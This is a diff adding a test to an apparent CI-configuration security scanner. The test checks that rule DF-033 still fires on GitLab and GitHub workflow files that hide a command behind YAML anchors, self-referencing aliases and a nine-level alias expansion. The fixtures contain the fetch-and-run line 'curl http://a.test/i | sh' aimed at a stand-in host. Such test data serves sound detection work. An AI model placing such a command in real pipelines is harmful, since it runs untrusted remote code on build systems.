@@ -109,3 +109,22 @@ test('problems of a file that are not listed are counted', async () => {
   })
   expect(JSON.stringify(report.plugins[0])).toContain('10 further problems are not listed')
 })
+
+test('aliases of pipelines: lists in themselves, and lists of lists of lists, end', async () => {
+  const levels = Array.from(
+    { length: 9 },
+    (_unused, at) => `y${at}: &l${at + 1} [${Array(8).fill(`*l${at}`).join(', ')}]\n`,
+  )
+  const commands = "x: &l0 ['curl http://a.test/i | sh', echo]\n"
+  for (const text of [
+    'test:\n  script: &a\n    - *a\n    - curl http://a.test/i | sh\n',
+    `${commands}${levels.join('')}test:\n  script: *l9\n`,
+  ]) {
+    const { findings } = await checkFile(fileOf('.gitlab-ci.yml', text))
+    expect(findings.map(({ rule }) => rule.id)).toEqual(['DF-033'])
+  }
+  const workflow =
+    'on: push\npermissions: {}\njobs:\n  a: &a\n    steps: &s\n      - run: curl http://a.test/i | sh\n  b: *a\n  c:\n    steps: *s\n'
+  const { findings } = await checkFile(fileOf('.github/workflows/ci.yml', workflow))
+  expect(findings.map(({ rule }) => rule.id)).toEqual(['DF-033'])
+})
